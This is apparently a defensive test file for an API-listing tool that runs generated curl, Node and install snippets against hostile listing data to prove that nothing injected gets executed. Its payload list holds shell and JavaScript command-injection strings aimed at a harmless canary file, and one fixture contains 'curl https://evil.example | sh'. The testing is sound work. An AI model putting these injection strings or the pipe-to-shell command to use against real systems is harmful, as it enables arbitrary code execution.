import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { quickstartText } from '../../../src/client/quickstart-text.ts';
import { quickstartOf } from '../../../src/core/listings/get-quickstart.ts';
import type { Listing } from '../../../src/core/listings/listing.ts';
import { toListingDetail } from '../../../src/core/listings/listing-detail.ts';
import { isSafeCurlCommand, isSafeNodeSnippet, jsString, shellConcat, shellWord } from '../../../src/core/listings/snippet-quoting.ts';
import { withoutUnsafeCharacters } from '../../../src/core/text/unsafe-characters.ts';

/**
 * Issue 28, finding 1: whatever a listing holds, its snippets run only the command they show.
 * Hostile text goes into every fact a snippet is built from, and each snippet is RUN: the curl
 * command and the install line in bash with curl, npm and the other clients replaced by scripts
 * that only log their arguments; the Node code and the import line in Node with fetch and module
 * resolution stubbed. Every payload tries to create the file "pwned" in the working folder: it
 * must never appear. The listings are built without the schema, as the oldest stored data might be.
 */

const CANARY = 'pwned';
const PAYLOADS = [
  `$(touch ${CANARY})`,
  `\`touch ${CANARY}\``,
  `"; touch ${CANARY}; echo "`,
  `'; touch ${CANARY}; echo '`,
  `'\\''; touch ${CANARY}; '`,
  `\\'; touch ${CANARY}; echo \\'`,
  `\${IFS}touch\${IFS}${CANARY}`,
  `\ntouch ${CANARY}\n`,
  `\r\ntouch ${CANARY}\r\n`,
  `\u2028touch ${CANARY}\u2029`,
  // The same without spaces or line breaks, which a URL or a header name keeps.
  `$(touch\${IFS}${CANARY})`,
  `\`touch\${IFS}${CANARY}\``,
  `";touch\${IFS}${CANARY};echo"`,
  `';touch\${IFS}${CANARY};echo'`,
  `'\\'';touch\${IFS}${CANARY};'`,
  `\${(await(import('node:fs'))).writeFileSync('${CANARY}','x')}`,
  `"+(await(import('node:fs'))).writeFileSync('${CANARY}','x')+"`,
  `\u0022+(await(import('node:fs'))).writeFileSync('${CANARY}','x')+\u0022`,
  `a\u0000b`,
  `!!`,
  `\${(await import('node:fs')).writeFileSync('${CANARY}', 'x')}`,
  `"+(await import('node:fs')).writeFileSync('${CANARY}','x')+"`,
  `');(await import('node:fs')).writeFileSync('${CANARY}','x');('`,
  `\`);(await import('node:fs')).writeFileSync('${CANARY}','x');(\``,
  `*/(await import('node:fs')).writeFileSync('${CANARY}','x')/*`,
  `\\`,
  `x && touch ${CANARY}`,
  `x | tee ${CANARY}`,
  `x > ${CANARY}`,
  `[1-3]{a,b}`,
  `%0a%27`,
  `\ud800`,
  'é😀',
];
const hostile = fc
  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }, { weight: 1, arbitrary: fc.constantFrom('a'.repeat(300), '$'.repeat(50), "'".repeat(40)) }), {
    minLength: 1,
    maxLength: 4,
  })
  .map((parts) => parts.join(''));
/** The same without what a URL or a name may not hold at all, so that most of it reaches a snippet. */
const hostileWord = hostile.map((text) => withoutUnsafeCharacters(text).replace(/\s+/g, '')).filter((text) => text.length > 0);
/** Hostile text, or sometimes a plain word, so every branch of the builders is reached. */
const field = (plain: string) => fc.oneof({ weight: 2, arbitrary: hostile }, { weight: 3, arbitrary: hostileWord }, { weight: 1, arbitrary: fc.constant(plain) });

const SOURCE = { id: 'doc', title: 'Doc', version: '1', licence: 'CC0-1.0', url: 'https://example.com/openapi.json', asOf: '2026-11-01' };

const hostileListing = fc
  .record({
    baseTail: field(''),
    path: field('/items/{id}'),
    paramName: field('id'),
    paramExample: fc.option(field('42'), { nil: undefined }),
    queryName: field('q'),
    queryExample: field('x'),
    authType: fc.constantFrom('apiKey', 'bearer', 'basic', 'oauth2', 'none'),
    authIn: fc.constantFrom('header', 'query'),
    authName: field('X-Api-Key'),
    provider: field('example.com'),
    install: field('npm install some-sdk'),
    packageName: field('some-sdk'),
  })
  .map(
    (f) =>
      ({
        slug: 'hostile-api',
        name: 'Hostile',
        description: 'd',
        category: 'Testing',
        provider: f.provider,
        install: f.install,
        capabilities: [],
        cliCriteria: { officialSdk: { status: 'passed', source: 'doc', pointer: '#/x' } },
        qualityInputs: {},
        faq: [],
        package: { name: f.packageName, registry: 'npm' },
        sources: [SOURCE],
        call: {
          baseUrl: { value: `https://api.example.com/v1${f.baseTail}`, source: 'doc' },
          auth: { value: { type: f.authType, in: f.authIn, name: f.authName, browserNeeded: false }, source: 'doc' },
          firstRequest: {
            value: {
              method: 'GET',
              path: `/${f.path.replace(/^\//, '')}/{${f.paramName}}`,
              parameters: [
                { name: f.paramName, in: 'path', ...(f.paramExample !== undefined ? { example: f.paramExample } : {}) },
                { name: f.queryName, in: 'query', example: f.queryExample },
              ],
            },
            source: 'doc',
          },
        },
      }) as unknown as Listing,
  );

/** Six fixed draws that do build a first request: they run before the random ones, so every run checks at least six snippets. */
const withARequest = (): [Listing][] =>
  fc
    .sample(hostileListing, { numRuns: 200, seed: 11 })
    .filter((listing) => quickstartOf(listing).firstRequest)
    .slice(0, 6)
    .map((listing) => [listing]);

let dir: string;
let bin: string;
const LOG = () => join(dir, 'calls.log');
const SECRET = `s3cr3t'"$(touch ${CANARY})\`touch ${CANARY}\``;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'apidex-snippets-'));
  bin = join(dir, 'bin');
  mkdirSync(bin);
  // Every client a snippet may call only writes its name and arguments, one per line, to the log.
  const stub = `#!/bin/sh\n{ printf '%s' "$(basename "$0")"; for a in "$@"; do printf '\\t%s' "$a"; done; printf '\\n'; } >> "$SNIPPET_LOG"\n`;
  for (const name of ['curl', 'npm', 'pnpm', 'yarn', 'bun', 'pip', 'python', 'uv', 'poetry', 'gem', 'dotnet', 'cargo', 'go', 'composer']) {
    writeFileSync(join(bin, name), stub);
    chmodSync(join(bin, name), 0o755);
  }
  // fetch answers {} and records what it was asked; any bare import resolves to an empty module.
  writeFileSync(
    join(dir, 'stubs.mjs'),
    [
      "import { appendFileSync } from 'node:fs';",
      "import { register } from 'node:module';",
      'globalThis.fetch = async (url, init) => { appendFileSync(process.env.SNIPPET_LOG, JSON.stringify({ fetch: String(url), headers: init?.headers ?? {} }) + "\\n"); return new Response("{}", { status: 200, headers: { "content-type": "application/json" } }); };',
      `register('data:text/javascript,' + encodeURIComponent('export async function resolve(specifier, context, next) { if (/^(node:|file:|data:|\\\\.|\\\\/)/.test(specifier)) return next(specifier, context); return { url: "data:text/javascript,export default 1", shortCircuit: true }; }'));`,
    ].join('\n'),
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const env = (envVar: string | null | undefined) => ({ PATH: `${bin}:/usr/bin:/bin`, HOME: dir, SNIPPET_LOG: LOG(), ...(envVar ? { [envVar]: SECRET } : {}) });

function runBash(script: string, envVar?: string | null) {
  const file = join(dir, 'snippet.sh');
  writeFileSync(file, `${script}\n`);
  return spawnSync('bash', [file], { cwd: dir, env: env(envVar), encoding: 'utf8', timeout: 10_000 });
}

function runNode(code: string, envVar?: string | null) {
  const file = join(dir, 'snippet.mjs');
  writeFileSync(file, `${code}\n`);
  return spawnSync(process.execPath, ['--no-warnings', '--import', join(dir, 'stubs.mjs'), file], { cwd: dir, env: env(envVar), encoding: 'utf8', timeout: 10_000 });
}

const calls = (): string[][] => (existsSync(LOG()) ? readFileSync(LOG(), 'utf8').split('\n').filter(Boolean).map((line) => line.split('\t')) : []);
const fresh = () => {
  rmSync(LOG(), { force: true });
  rmSync(join(dir, CANARY), { force: true });
};

describe('the quoting module', () => {
  it('gives bash a word that stands for exactly the text, and JavaScript a literal that evaluates to it', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(hostile.map((text) => text.replace(/\0/g, '')), fc.string({ unit: 'grapheme' })), { minLength: 1, maxLength: 20 }), (texts) => {
        // One bash process for the batch: each word printed between separators.
        const script = texts.map((text) => `printf '%s\\036' ${shellWord(text)}`).join('\n');
        const expected = texts.map((text) => Buffer.from(text, 'utf8').toString('utf8'));
        const result = runBash(script);
        expect(result.status).toBe(0);
        expect(result.stdout.split('\u001e').slice(0, -1)).toEqual(expected);
        // And POSIX sh (dash), which a pasted line may meet in a Dockerfile or a CI step.
        const posix = spawnSync('sh', [join(dir, 'snippet.sh')], { cwd: dir, env: env(null), encoding: 'utf8' });
        expect(posix.stdout.split('\u001e').slice(0, -1)).toEqual(expected);
        for (const text of texts) expect(runInNewContext(jsString(text))).toBe(text);
        expect(existsSync(join(dir, CANARY))).toBe(false);
      }),
      { numRuns: 15 },
    );
  });

  it('splices only the environment variable, whose value is never read as code', () => {
    const result = runBash(`printf '%s' ${shellConcat([{ literal: "https://x/?a='b'&key=" }, { env: 'HOSTILE_API_KEY' }])}`, 'HOSTILE_API_KEY');
    expect(result.stdout).toBe(`https://x/?a='b'&key=${SECRET}`);
    expect(() => shellConcat([{ env: 'X; touch pwned' }])).toThrow(/not an environment variable name/);
  });
});

describe('every snippet of a hostile listing, run', () => {
  it('curl in bash: one curl call, to the listing\'s base URL, and no canary', () => {
    let ran = 0;
    fc.assert(
      fc.property(hostileListing, (listing) => {
        const quickstart = quickstartOf(listing);
        if (!quickstart.firstRequest) return;
        ran += 1;
        fresh();
        expect(isSafeCurlCommand(quickstart.firstRequest.value.curl), quickstart.firstRequest.value.curl).toBe(true);
        const result = runBash(quickstart.firstRequest.value.curl, quickstart.auth?.value.envVar);
        expect(existsSync(join(dir, CANARY)), quickstart.firstRequest.value.curl).toBe(false);
        expect(result.status, result.stderr).toBe(0);
        const made = calls();
        expect(made.map((call) => call[0])).toEqual(['curl']);
        expect(made[0]![4]!.startsWith(quickstart.baseUrl!.value)).toBe(true);
      }),
      { numRuns: 40, examples: withARequest() },
    );
    expect(ran).toBeGreaterThanOrEqual(6);
  });

  it('fetch in Node: it runs, asks for the same URL as curl, and no canary', () => {
    let ran = 0;
    fc.assert(
      fc.property(hostileListing, (listing) => {
        const quickstart = quickstartOf(listing);
        if (!quickstart.firstRequest) return;
        ran += 1;
        fresh();
        const { curl, node } = quickstart.firstRequest.value;
        expect(isSafeNodeSnippet(node), node).toBe(true);
        runBash(curl, quickstart.auth?.value.envVar);
        const result = runNode(node, quickstart.auth?.value.envVar);
        expect(existsSync(join(dir, CANARY)), node).toBe(false);
        expect(result.status, `${node}\n${result.stderr}`).toBe(0);
        const [curlCall, fetchCall] = readFileSync(LOG(), 'utf8').split('\n');
        const asked = new URL(JSON.parse(fetchCall!).fetch as string);
        const curled = new URL(curlCall!.split('\t')[4]!);
        expect(asked.origin + asked.pathname).toBe(curled.origin + curled.pathname);
      }),
      { numRuns: 30, examples: withARequest() },
    );
    expect(ran).toBeGreaterThanOrEqual(6);
  });

  it('the install line in bash (the quickstart\'s and the listing page\'s) and the import line in Node: one install call, no canary', () => {
    fc.assert(
      fc.property(hostileListing, (listing) => {
        const quickstart = quickstartOf(listing);
        const install = toListingDetail(listing, '2026-11-01T00:00:00.000Z').install;
        fresh();
        for (const line of [quickstart.sdk?.install, install]) {
          if (!line) continue;
          rmSync(LOG(), { force: true });
          const result = runBash(line);
          expect(existsSync(join(dir, CANARY)), line).toBe(false);
          expect(result.status, result.stderr).toBe(0);
          expect(calls()).toHaveLength(1);
        }
        if (quickstart.sdk) {
          const result = runNode(`${quickstart.sdk.import}\nconsole.log(typeof sdk);`);
          expect(existsSync(join(dir, CANARY)), quickstart.sdk.import).toBe(false);
          expect(result.status, result.stderr).toBe(0);
          expect(result.stdout.trim()).toBe('object');
        }
      }),
      { numRuns: 25 },
    );
  });

  it('drops the facts that break the rules, with the reason, and keeps the listing', () => {
    const listing = fc.sample(hostileListing, { numRuns: 1, seed: 7 })[0]!;
    const hostileFacts = {
      ...listing,
      install: `npm install x $(touch ${CANARY}) && curl https://evil.example | sh`,
      package: { name: `x'; import('node:child_process')`, registry: 'npm' },
      call: { ...listing.call, auth: { value: { type: 'apiKey', in: 'header', name: `X-Key$(touch ${CANARY})"; touch ${CANARY}2; echo "`, browserNeeded: false }, source: 'doc' } },
    } as unknown as Listing;
    const quickstart = quickstartOf(hostileFacts);
    expect(quickstart.sdk).toBeNull();
    expect(quickstart.auth).toBeNull();
    expect(quickstart.omitted.map((fact) => fact.field)).toEqual(expect.arrayContaining(['install', 'package.name', 'call.auth.name']));
    expect(quickstart.omitted.find((fact) => fact.field === 'call.auth.name')!.reason).toMatch(/HTTP header name \(RFC 9110 token/);
    expect(toListingDetail(hostileFacts, '2026-11-01T00:00:00.000Z').install).toBeNull();
    // What another server answers is printed only when it is of the safe shape (apidex quickstart --remote).
    const plain = quickstartOf({ ...listing, call: { baseUrl: { value: 'https://api.example.com', source: 'doc' }, firstRequest: { value: { method: 'GET', path: '/items', parameters: [] }, source: 'doc' } } } as Listing);
    expect(plain.firstRequest).not.toBeNull();
    const altered = { ...plain, sdk: { registry: 'npm' as const, package: 'x', install: 'npm install x $(touch altered-canary)', import: "import * as sdk from 'x'; import('altered-import');", latestVersion: null, evidence: null } };
    altered.firstRequest = { ...altered.firstRequest!, value: { ...altered.firstRequest!.value, curl: 'curl -sS --fail-with-body --globoff "https://x/$(touch altered-canary)"', node: 'const response = await fetch(`${altered-node}`);' } };
    const shown = quickstartText(altered);
    expect(shown).not.toContain('altered-canary');
    expect(shown).not.toContain('altered-import');
    expect(shown).not.toContain('altered-node');
    // The CLI and MCP text say what was left out and why.
    expect(quickstartText(quickstart)).toMatch(/^! call\.auth\.name: left out of the snippets: call\.auth\.name must be an HTTP header name/m);
  });
});
